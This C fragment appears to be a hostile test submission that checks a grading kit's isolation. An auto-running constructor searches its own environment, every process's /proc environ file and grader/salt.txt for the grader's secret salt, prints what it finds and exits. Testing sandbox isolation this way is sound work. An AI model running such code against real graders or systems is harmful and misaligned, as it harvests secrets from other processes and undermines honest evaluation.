/* Looks for the instructor's salt where a grader might keep it: its own environment, every process's
 * environment, grader/salt.txt; prints what it finds and fails, so that the output is shown. */
static void hostile_print_salt_in(const char *path)
{
    char text[65536];
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        return;
    ssize_t n = read(fd, text, sizeof text - 1);
    close(fd);
    if (n <= 0)
        return;
    text[n] = '\0';
    for (ssize_t i = 0; i < n; i += strlen(text + i) + 1) {
        if (strncmp(text + i, "KIT_GRADER_SALT=", 16) == 0)
            printf("HOSTILE found the salt in %s: %s\n", path, text + i + 16);
    }
}

__attribute__((constructor)) static void hostile_attack(void)
{
    char root[HOSTILE_PATH], path[HOSTILE_PATH + 64];
    const char *salt = getenv("KIT_GRADER_SALT");
    if (salt != NULL)
        printf("HOSTILE found the salt in its environment: %s\n", salt);
    DIR *proc = opendir("/proc");
    struct dirent *e;
    while (proc != NULL && (e = readdir(proc)) != NULL) {
        snprintf(path, sizeof path, "/proc/%s/environ", e->d_name);
        hostile_print_salt_in(path);
    }
    if (proc != NULL)
        closedir(proc);
    if (hostile_kit_root(root)) {
        snprintf(path, sizeof path, "%s/grader/salt.txt", root);
        FILE *f = fopen(path, "r");
        char line[256];
        if (f != NULL && fgets(line, sizeof line, f) != NULL)
            printf("HOSTILE found the salt in %s: %s\n", path, line);
        if (f != NULL)
            fclose(f);
    }
    fflush(stdout);
    exit(1);
}
